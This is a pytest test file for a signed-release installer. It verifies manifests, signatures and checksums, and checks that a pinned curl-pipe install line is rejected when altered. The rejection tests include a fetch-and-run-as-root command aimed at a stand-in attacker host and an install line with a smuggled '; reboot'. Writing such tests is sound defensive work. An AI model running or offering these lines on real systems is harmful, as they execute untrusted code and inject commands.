"""A release is served only where signature, sizes and checksums agree; and what the owner's line holds."""

import base64
import hashlib
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from control_plane.install import BadRelease, Release, check_line, install_line
from installer.release import CannotRelease, new_key, sign, write_manifest

URL = "https://control.example:8443"


@pytest.fixture
def directory(tmp_path: Path) -> Path:
    directory = tmp_path / "release"
    directory.mkdir()
    (directory / "install.sh").write_text("true\n")
    (directory / "wheel.whl").write_bytes(b"wheel")
    write_manifest(directory, "0.1.0", 1_800_000_000)
    new_key(tmp_path / "key")
    sign(directory, tmp_path / "key")
    return directory


def _line(release: Release) -> str:
    return install_line(release.script_sha256, release.public_key, URL, b"k" * 32, "daalu-invite-x")


def test_a_signed_release_is_read_with_its_key(directory: Path) -> None:
    release = Release.load(directory)
    assert release.public_key == (directory / "release.pub").read_text().strip()
    assert release.script_sha256 == hashlib.sha256(b"true\n").hexdigest()
    assert (release.manifest.version, len(release.manifest.artifacts)) == ("0.1.0", 2)


def _resigned(directory: Path) -> None:
    new_key(directory.parent / "other")
    public = (directory / "release.pub").read_text()
    sign(directory, directory.parent / "other")
    (directory / "release.pub").write_text(public)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda d: (d / "wheel.whl").write_bytes(b"whee1"), "wheel.whl is not what the manifest names"),
        (lambda d: (d / "wheel.whl").write_bytes(b"wheel+"), "wheel.whl is not what the manifest names"),
        (lambda d: (d / "wheel.whl").unlink(), "No such file"),
        (lambda d: (d / "manifest.sig").unlink(), "No such file"),
        (lambda d: (d / "manifest.sig").write_bytes(b"x" * 64), "manifest.sig is not this manifest's"),
        (lambda d: (d / "release.pub").write_text("short"), "manifest.sig is not this manifest's"),
        (_resigned, "manifest.sig is not this manifest's"),
        (lambda d: write_manifest(d, "0.1.1", 1), "manifest.sig is not this manifest's"),
    ],
)
def test_a_release_that_does_not_agree_with_itself_is_refused(
    directory: Path, change: Callable[[Path], object], words: str
) -> None:
    change(directory)
    with pytest.raises(BadRelease, match=words):
        Release.load(directory)


def test_a_release_without_an_installer_is_not_signed(tmp_path: Path) -> None:
    (tmp_path / "release").mkdir()
    (tmp_path / "release" / "wheel").write_bytes(b"")
    write_manifest(tmp_path / "release", "1", 1)
    new_key(tmp_path / "key")
    with pytest.raises(CannotRelease, match=r"names no install\.sh"):
        sign(tmp_path / "release", tmp_path / "key")


def test_the_line_is_one_line_and_its_words_are_whole_for_a_shell(directory: Path) -> None:
    release = Release.load(directory)
    line = _line(release)
    assert "\n" not in line
    words = shlex.split(line)
    pin = base64.b64encode(b"k" * 32).decode()
    assert words[: words.index("|")] == [
        "curl", "-fsSk", "--pinnedpubkey", f"sha256//{pin}", f"{URL}/install/install.sh",
    ]  # fmt: skip
    assert words[-4:] == ["install", "--release-key", release.public_key, "daalu-invite-x"]
    assert release.script_sha256 in words[-5]


def test_an_operator_who_knows_the_release_key_finds_a_line_of_another_one_out(
    directory: Path, tmp_path: Path
) -> None:
    release = Release.load(directory)
    given = (release.public_key, release.manifest_bytes, release.signature)
    check_line(_line(release), *given)
    for wrong in (
        _line(release).replace(release.script_sha256, "0" * 64),
        _line(release).replace(release.public_key, base64.b64encode(b"o" * 32).decode()),
        _line(release) + "; reboot",
        "curl https://evil.example | sudo sh",
    ):
        with pytest.raises(BadRelease, match="does not run what the release key signed"):
            check_line(wrong, *given)
    other = new_key(tmp_path / "another")
    with pytest.raises(BadRelease, match="is not signed with the key"):
        check_line(_line(release), other, release.manifest_bytes, release.signature)
